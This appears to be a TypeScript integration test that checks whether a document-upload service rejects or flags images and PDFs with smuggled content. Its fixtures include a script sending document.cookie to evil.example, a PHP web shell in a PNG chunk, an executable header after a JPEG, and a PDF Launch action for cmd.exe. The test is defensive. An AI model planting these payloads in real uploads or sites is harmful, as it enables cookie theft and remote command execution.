// Files with hidden content, and harmless ones that look odd, uploaded by link to a real storage and checked by a real scanner.
import { DOCUMENT_FINDINGS, type DocumentFinding } from '@onboarding/contract';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { freePort } from '../../scripts/free-port.ts';
import { validBody } from '../harness/bodies.ts';
import { cloneDatabase, type TestDatabase, type TestPartner } from '../harness/database.ts';
import { cameraNotes, jpegOf, objectStreamOf, pdfOf, pdfWith, pngChunk, pngOf, zipOf } from '../harness/files.ts';
import { insistOn } from '../harness/insist.ts';
import { EVENTS_SECRET, storageEnvironment } from '../harness/no-storage.ts';
import { until } from '../harness/patience.ts';
import { type RunningApi, type RunningIssuer, runApi, runIssuer } from '../harness/process.ts';
import { startScanner, startStorage, type TestScanner, type TestStorage } from '../harness/servers/storage.ts';
import { type RunningWorker, runWorker } from '../harness/worker.ts';

let database: TestDatabase;
let issuer: RunningIssuer;
let storage: TestStorage;
let scanner: TestScanner;
let api: RunningApi;
let worker: RunningWorker;
let partner: TestPartner;

beforeAll(async () => {
  const port = await freePort();
  [database, issuer, storage, scanner] = await Promise.all([
    cloneDatabase(),
    runIssuer(),
    startStorage(`http://127.0.0.1:${port}/api/storage/v1/events?token=${EVENTS_SECRET}`),
    startScanner(),
  ]);
  partner = await database.addPartner();
  const environment = { ...storageEnvironment(storage.options), STORAGE_EVENTS_SECRET: EVENTS_SECRET };
  api = await runApi({ databaseUrl: database.appUrl, issuerUrl: issuer.url, port, environment });
  worker = await runWorker({
    database,
    smtpUrl: 'smtp://127.0.0.1:1',
    environment: {
      ...storageEnvironment(storage.options),
      WORKER_ROLES: 'documents,reviews',
      CLAMD_HOST: scanner.host,
      CLAMD_PORT: String(scanner.port),
    },
  });
});
afterAll(async () => {
  await Promise.all([api?.kill(), worker?.kill()]);
  await Promise.all([storage?.close(), scanner?.close(), issuer?.close()]);
  await database?.close();
});

async function call(method: string, path: string, body?: unknown) {
  const answer = await insistOn(async () =>
    fetch(`${api.url}/api/partner/v1/business-profiles${path}`, {
      method,
      headers: { authorization: `Bearer ${await issuer.issuer.token(partner)}`, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    }),
  );
  return (await answer.json()) as { value: Record<string, string> };
}

interface Sent {
  customerId: string;
  documentId: string;
}

type Type = 'application/pdf' | 'image/jpeg' | 'image/png';

async function send(contentType: Type, bytes: Buffer): Promise<Sent> {
  const { customerId = '' } = (await call('POST', '', validBody())).value;
  const asked = { documentCategory: 'TaxCertificate', contentType };
  const { documentId = '', uploadUrl = '' } = (await call('POST', `/${customerId}/documents/upload-link`, asked)).value;
  const headers = { 'content-type': contentType };
  const stored = await fetch(uploadUrl, { method: 'PUT', headers, body: new Uint8Array(bytes) });
  expect(stored.status).toBe(200);
  return { customerId, documentId };
}

async function outcomeOf({ documentId }: Sent): Promise<string> {
  let outcome = '';
  await until(async () => {
    const { rows } = await database.owner.query('select status, refusal from documents where document_id = $1', [
      documentId,
    ]);
    outcome = [rows[0].status, rows[0].refusal].filter(Boolean).join(' ');
    return !['LinkIssued', 'Uploaded'].includes(rows[0].status);
  }, 'the document has its outcome');
  return outcome;
}

/** The outcome of each file. */
async function outcomesOf(files: Record<string, [Type, Buffer]>): Promise<Record<string, string>> {
  const sent = await Promise.all(
    Object.entries(files).map(async ([what, [type, bytes]]) => [what, await send(type, bytes)] as const),
  );
  const outcomes: [string, string][] = [];
  for (const [what, one] of sent) outcomes.push([what, await outcomeOf(one)]);
  return Object.fromEntries(outcomes);
}
const all = (files: object, outcome: string) => Object.fromEntries(Object.keys(files).map((what) => [what, outcome]));

const joined = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
const [PDF, JPEG, PNG] = ['application/pdf', 'image/jpeg', 'image/png'] as const;
const PAGE = '<html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>';
const XMP = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta>';
const segment = (code: number, content: Buffer) =>
  joined(Buffer.from([0xff, code, (content.length + 2) >> 8, (content.length + 2) & 255]), content);
/** Places the segments after the first KiB. */
const jpegWith = (...segments: Buffer[]) =>
  joined(jpegOf().subarray(0, 20), segment(0xe2, Buffer.alloc(2_000, 3)), ...segments, jpegOf().subarray(20));
const pngWith = (...chunks: Buffer[]) =>
  joined(pngOf().subarray(0, 33), pngChunk('tEXt', Buffer.alloc(2_000, 0x61)), ...chunks, pngOf().subarray(33));

test('confirms harmless files with trailing bytes or metadata', async () => {
  const files: Record<string, [Type, Buffer]> = {
    'a byte after the end of a PDF': [PDF, joined(pdfOf('hello'), '\x1a')],
    'line breaks after the end of a PDF': [PDF, joined(pdfOf('hello'), '\r\n\n')],
    'a letter after the end of a PDF': [PDF, joined(pdfOf('hello'), 'x')],
    'junk before a PDF': [PDF, joined('HTTP/1.1 200 OK\r\n\r\n', pdfOf('hello'))],
    'a PDF that begins at the end of the first KiB': [PDF, joined('\n'.repeat(1_019), pdfOf('hello'))],
    'a JPEG with XMP metadata': [JPEG, jpegWith(segment(0xe1, Buffer.from(`xap\0${XMP}`)))],
    'a JPEG followed by another': [JPEG, joined(jpegOf(), jpegOf())],
    'a JPEG followed by camera notes': [JPEG, joined(jpegOf(), cameraNotes({ Image_UTC_Data: '1763' }))],
    'a PNG with XMP metadata': [PNG, pngWith(pngChunk('iTXt', Buffer.from(`XML\0\0\0\0\0${XMP}`)))],
  };
  expect(await outcomesOf(files)).toEqual(all(files, 'Confirmed'));
});

test('rejects an image that declares too many pixels, however small its file', async () => {
  const files: Record<string, [Type, Buffer]> = {
    'a PNG of 60,000 by 60,000 pixels': [PNG, pngOf(60_000, 60_000)],
    'a JPEG of 65,535 by 65,535 pixels': [JPEG, jpegOf({ width: 65_535, height: 65_535 })],
  };
  expect(await outcomesOf(files)).toEqual(all(files, 'Rejected TooLarge'));
});

test('rejects an image or document that contains a page, an archive or a program, however far from its beginning', async () => {
  const files: Record<string, [Type, Buffer]> = {
    'a page in a comment of a JPEG': [JPEG, jpegWith(segment(0xfe, Buffer.from(PAGE)))],
    'a page in the scan of a JPEG': [JPEG, joined(jpegOf().subarray(0, -2), Buffer.alloc(2_000, 7), PAGE, '\xff\xd9')],
    'a page after a JPEG': [JPEG, joined(jpegOf(), Buffer.alloc(2_000), PAGE, '\xff\xd9')],
    'an archive after a JPEG': [
      JPEG,
      joined(jpegOf(), zipOf('a', Buffer.from('a')), Buffer.alloc(70_000, 1), '\xff\xd9'),
    ],
    'a program after a JPEG, with the marker of camera notes': [JPEG, joined(jpegOf(), 'MZ\x90\0\x03', 'SEFT')],
    'a program before camera notes': [JPEG, joined(jpegOf(), 'MZ\x90\0\x03', cameraNotes({ a: 'b' }))],
    'a PDF after a JPEG': [JPEG, joined(jpegOf(), pdfOf('hello'), '\xff\xd9')],
    'a page in a comment of a PNG': [PNG, pngWith(pngChunk('tEXt', Buffer.from(`Comment\0${PAGE}`)))],
    'a page in UTF-16 in a PNG': [PNG, pngWith(pngChunk('tEXt', Buffer.from(PAGE, 'utf16le')))],
    'a PHP script in a PNG': [PNG, pngWith(pngChunk('tEXt', Buffer.from('<?php system($_GET[0]); ?>')))],
    'a page after a PNG': [PNG, joined(pngOf(), PAGE, pngOf().subarray(-12))],
    'a page before a PDF': [PDF, joined('<html><body>', pdfOf('hello'))],
    'a page after a PDF': [PDF, joined(pdfOf('hello'), PAGE)],
  };
  expect(await outcomesOf(files)).toEqual(all(files, 'Rejected ContentMismatch'));
});

// Escaped names are omitted: this scanner reports them as an infection.
test('confirms a document with active content, and flags what it contains for analysts only', async () => {
  const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
  const files: [DocumentFinding, Buffer][] = [
    ['JavaScript', pdfWith(`9 0 obj${script}endobj`)],
    ['JavaScript', pdfWith(objectStreamOf(script))],
    ['Launch', pdfWith('9 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
    ['SubmitForm', pdfWith('9 0 obj<</S/SubmitForm/F(https://a.example)>>endobj')],
    ['EmbeddedFile', pdfWith('9 0 obj<</AF[<</EF 7 0 R>>]>>endobj')],
    ['EmbeddedFile', pdfWith('9 0 obj<</Type/EmbeddedFile/Length 5>>stream\nhello\nendstream endobj')],
    ['Xfa', pdfWith('9 0 obj<</AcroForm<</XFA[(template) 8 0 R]>>>>endobj')],
    ['Encrypted', pdfWith('trailer<</Root 1 0 R/Encrypt 9 0 R>>')],
    ['Unchecked', pdfWith('9 0 obj<</Type/ObjStm/N 1/First 4/Filter/LZWDecode>>stream\nxx\nendstream endobj')],
  ];
  const sent = await Promise.all(files.map(([, bytes]) => send(PDF, bytes)));
  for (const [index, { customerId, documentId }] of sent.entries()) {
    expect(await outcomeOf({ customerId, documentId })).toBe('Confirmed');
    let flags: { code: string; facts: unknown }[] = [];
    await until(async () => {
      const { rows } = await database.owner.query('select flags from reviews where customer_id = $1', [customerId]);
      flags = rows[0].flags;
      return flags.some(({ code }) => code === 'ActiveContent');
    }, `the package is flagged for ${files[index]?.[0]}`);
    expect(flags.find(({ code }) => code === 'ActiveContent')?.facts).toEqual({
      documents: [{ documentId, findings: [files[index]?.[0]] }],
      more: false,
    });
    // Partners do not see the findings.
    const record = JSON.stringify((await call('GET', `/${customerId}`)).value);
    expect([...DOCUMENT_FINDINGS, 'findings', 'ActiveContent'].filter((word) => record.includes(word))).toEqual([]);
  }
});
